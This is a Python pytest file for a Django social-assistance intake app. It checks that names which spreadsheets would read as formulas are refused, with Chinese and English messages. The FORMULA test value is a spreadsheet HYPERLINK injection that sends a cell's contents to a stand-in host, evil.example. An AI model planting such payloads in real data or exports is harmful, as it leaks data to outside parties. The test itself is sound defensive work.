"""A person's name that a spreadsheet would take for a formula is refused where it is typed
in (issue 15, item 1): the application service (pages and API alike), the API serializer and
the page forms, with a message in Chinese and English; nothing is written."""

from __future__ import annotations

import pytest
from django.utils import translation

from tests.assistance.conftest import household_input
from yimen.assistance.forms import MemberForm
from yimen.assistance.models import Application
from yimen.assistance.serializers import ApplicationIn, MemberIn
from yimen.assistance.services import intake
from yimen.errors import Invalid

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


@pytest.mark.django_db
@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1+1"])
def test_application_with_a_formula_member_name_is_refused(staff, name):
    data = household_input()
    data.members[0].name = name
    for language, word in (("zh-hans", "公式"), ("en", "formula")):
        with translation.override(language), pytest.raises(Invalid) as refused:
            intake.application_create(actor=staff.caseworker, data=data)
        assert word in " ".join(refused.value.fields["members[0].name"])
    assert Application.objects.count() == 0


@pytest.mark.django_db
def test_entrusted_name_like_a_formula_is_refused(staff):
    data = household_input(channel="entrusted", entrusted_name=FORMULA)
    with pytest.raises(Invalid) as refused:
        intake.application_create(actor=staff.caseworker, data=data)
    assert "entrusted_name" in refused.value.fields
    assert Application.objects.count() == 0


@pytest.mark.parametrize("language, word", [("zh-hans", "公式"), ("en", "formula")])
def test_serializer_and_form_refuse_it_in_the_users_language(language, word):
    with translation.override(language):
        member = MemberIn(data={"name": FORMULA, "id_number": "", "relationship": "head"})
        assert not member.is_valid()
        assert word in str(member.errors["name"][0])
        application = ApplicationIn(data={"entrusted_name": FORMULA})
        assert not application.is_valid()
        assert word in str(application.errors["entrusted_name"][0])
        form = MemberForm(data={"name": FORMULA, "id_number": ""})
        assert not form.is_valid()
        assert word in form.errors["name"][0]


def test_ordinary_names_pass_the_serializer():
    member = MemberIn(data={"name": "张建明", "id_number": "", "relationship": "head"})
    assert member.is_valid(), member.errors
